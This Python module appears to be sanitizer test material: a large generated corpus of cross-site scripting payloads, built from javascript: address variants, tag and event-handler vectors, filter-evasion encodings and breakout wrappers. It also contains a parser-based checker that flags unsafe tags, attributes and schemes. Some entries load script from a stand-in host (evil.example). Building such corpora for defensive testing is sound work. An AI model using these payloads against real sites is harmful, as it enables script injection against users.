"""Attacks on whatever becomes HTML: vectors × disguises × wrappings, a few thousand payloads made from a page of parts.

`executable` looks at a page as a parser does, and names every node in it that could run something.
"""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import product
from typing import Final

CALL: Final = "alert(1)"

ADDRESSES: Final = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"java\r\nscript:{CALL}",
    f"java\x00script:{CALL}",
    f"javascript\t:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;avascript&#58;{CALL}",
    f"&#0000106&#0000097vascript:{CALL}",
    f"java&Tab;script&NewLine;:{CALL}",
    f"javascript://example.org/%0a{CALL}",
    "javascript:%61lert(1)",
    f"\u2028javascript:{CALL}",
    f"\ufeffjavascript:{CALL}",
    f"ｊavascript:{CALL}",
    f"jav\u00adascript:{CALL}",
    "vbscript:msgbox(1)",
    f"VBScript:{CALL}",
    f"livescript:{CALL}",
    f"mocha:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"DATA:image/svg+xml,<svg onload={CALL}>",
    f"feed:javascript:{CALL}",
    f"view-source:javascript:{CALL}",
    "jar:https://x.org!/a",
    "blob:https://example.org/1",
    "filesystem:https://example.org/1",
    f'https://example.org/"onmouseover="{CALL}',
    f"https://example.org/'onmouseover='{CALL}",
    f'https://example.org/"><script>{CALL}</script>',
    f'mailto:a@b.org"onclick={CALL}//',
    f"mailto:a@b.org?body=<img src=x onerror={CALL}>",
    f'tel:1"onclick={CALL}//',
    f'/"><svg/onload={CALL}>',
    f'#"><svg/onload={CALL}>',
    "//evil.example/x.js",
    "/\\evil.example",
]

TAGS: Final = [
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script/x>{CALL}</script\n>",
    "<script src=//evil.example></script>",
    f"<script>{CALL}",
    f"<img src=x onerror={CALL}>",
    f"<img/src=x/onerror={CALL}>",
    f"<img src=`x`onerror={CALL}>",
    f"<img src=x:{CALL} onerror=eval(src)>",
    f'<IMG """><SCRIPT>{CALL}</SCRIPT>">',
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f'<svg><a xlink:href="javascript:{CALL}"><text>x</text></a></svg>',
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={CALL}>#x">',
    f"<svg><foreignObject><iframe onload={CALL}></foreignObject></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f'<math href="javascript:{CALL}">x</math>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={CALL}></annotation-xml></math>',
    f'<iframe src="javascript:{CALL}"></iframe>',
    f'<iframe srcdoc="<script>{CALL}</script>"></iframe>',
    f'<object data="javascript:{CALL}"></object>',
    f'<embed src="javascript:{CALL}">',
    f'<form action="javascript:{CALL}"><button>x</button></form>',
    f'<form><button formaction="javascript:{CALL}">x</button></form>',
    f"<input autofocus onfocus={CALL}>",
    f"<input type=image src=x onerror={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src onerror={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<body onload={CALL}>",
    f"<html onclick={CALL}>",
    f'<link rel=stylesheet href="javascript:{CALL}">',
    f'<link rel=import href="data:text/html,<script>{CALL}</script>">',
    f'<meta http-equiv=refresh content="0;url=javascript:{CALL}">',
    f'<base href="javascript:{CALL}//">',
    f"<style>@import 'javascript:{CALL}';</style>",
    f"<style>*{{background:url('javascript:{CALL}')}}</style>",
    f'<p style="background:url(javascript:{CALL})">x</p>',
    f'<div style="width:expression({CALL})">x</div>',
    f'<a href="javascript:{CALL}">x</a>',
    f"<a href=javascript:{CALL}>x</a>",
    f'<a href="&#106;avascript:{CALL}">x</a>',
    f"<a onmouseover={CALL}>x</a>",
    f"<u onclick={CALL}>x</u>",
    f"<br onclick={CALL}>",
    f"<span class=mention data-id=x onclick={CALL}>x</span>",
    f'<table background="javascript:{CALL}"><td background="javascript:{CALL}">x</table>',
    f"<template><script>{CALL}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript>',
    f'<textarea><p title="</textarea><img src=x onerror={CALL}>">',
    f'<title><p title="</title><img src=x onerror={CALL}>">',
    f"<select><style></select><img src=x onerror={CALL}>",
    f'<xmp><p title="</xmp><svg/onload={CALL}>">',
    f"<plaintext><script>{CALL}</script>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!-- --!><img src=x onerror={CALL}>-->",
    f"<![CDATA[<img src=x onerror={CALL}>]]>",
    f'<?xml version="1.0"?><script>{CALL}</script>',
    f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{CALL}</x:script>',
    f"<div onpointerrawupdate={CALL}>x</div>",
    f'<portal src="javascript:{CALL}">',
    f"<isindex type=image src=1 onerror={CALL}>",
    f"<dialog open onclose={CALL}><form method=dialog><button>x</button></form></dialog>",
    f"<b id=x tabindex=1 onfocus={CALL}>x</b>",
    f'<a id=test href=#x><a id=test name=y href="javascript:{CALL}">',
]

# How a payload may be hidden from a filter that looks only once.
DISGUISES: Final = [
    lambda payload: payload,
    lambda payload: payload.upper().replace("ALERT", "alert"),
    lambda payload: payload.replace(" ", "\t"),
    lambda payload: payload.replace(" ", "/"),
    lambda payload: payload.replace(" ", "\x0c"),
    lambda payload: payload.replace("<", "<\x00"),
    lambda payload: payload.replace("<", "&lt;").replace(">", "&gt;"),
    lambda payload: payload.replace("<", "&#60;").replace(">", "&#x3E;"),
    lambda payload: payload.replace("<", "&amp;lt;"),
    lambda payload: payload.replace("<", "＜").replace(">", "＞"),
    lambda payload: payload.replace("<", "\\<"),
    lambda payload: "".join(f"&#{ord(sign)};" for sign in payload),
    lambda payload: payload.replace('"', "'"),
    lambda payload: payload.replace('"', "").replace("'", ""),
]

# What it is put between, to break out of where it lands.
WRAPPINGS: Final = [
    ("", ""),
    ('">', ""),
    ("'>", ""),
    ("</p>", "<p>"),
    ("</code></pre>", "<pre><code>"),
    ("-->", "<!--"),
    ("]]>", ""),
    ("</span>", ""),
    ("```\n", "\n```"),
    ("| ", " |\n|---|\n| x |"),
    ("[", "](https://example.org)"),
    ("**", "**"),
]


def payloads() -> list[str]:
    hidden = {disguise(tag) for tag, disguise in product(TAGS, DISGUISES)}
    wrapped = {before + tag + after for tag, (before, after) in product(TAGS, WRAPPINGS)}
    return sorted(hidden | wrapped | set(ADDRESSES))


def markdown_links() -> list[str]:
    """Every address in every way in which Markdown writes a link."""
    ways = [
        "[x]({})",
        "[x](<{}>)",
        "![x]({})",
        "<{}>",
        "[x][1]\n\n[1]: {}",
        "[x][1]\n\n[1]: <{}> 'title'",
        '[a]({} "t")',
        "see {}",
    ]
    return [way.format(address) for way, address in product(ways, ADDRESSES)]


SAFE_TAGS: Final = {
    *("p", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "del", "u", "code", "pre", "blockquote", "a", "br", "hr"),
    *("ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "div", "span", "label", "input"),
}
SAFE_ATTRIBUTES: Final = {
    *("href", "rel", "class", "start", "colspan", "rowspan", "tabindex", "type", "checked", "disabled"),
    *("data-id", "data-label", "data-type", "data-checked"),
}
SAFE_SCHEMES: Final = ("http://", "https://", "mailto:", "tel:")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in SAFE_ATTRIBUTES:
                self.found.append(f"{name}={value!r}")
            if name == "href" and not _leads_somewhere_safe(value or ""):
                self.found.append(f"{name}={value!r}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")


def _leads_somewhere_safe(href: str) -> bool:
    bare = "".join(sign for sign in href if sign > " ").lower()
    return bare == href.lower() and (
        bare.startswith((*SAFE_SCHEMES, "#")) or (bare.startswith("/") and not bare.startswith(("//", "/\\")))
    )


def executable(html: str) -> list[str]:
    """What in this HTML is no plain formatting: other tags, attributes, addresses, comments."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found
